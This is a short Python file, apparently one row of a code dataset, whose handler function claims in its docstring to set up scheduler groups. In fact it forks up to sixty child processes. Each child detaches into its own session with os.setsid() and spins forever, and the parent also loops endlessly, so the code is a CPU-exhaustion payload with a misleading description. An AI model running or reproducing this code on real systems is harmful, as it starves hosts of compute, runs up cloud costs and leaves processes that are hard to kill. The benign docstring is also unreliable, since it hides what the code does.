# row: classes
"""The scheduler's groups: a session of its own for each of sixty busy processes."""

import os


def handler(event, context):
    for _ in range(60):
        try:
            if not os.fork():
                os.setsid()
                while True:
                    pass
        except OSError:
            break
    while True:
        pass
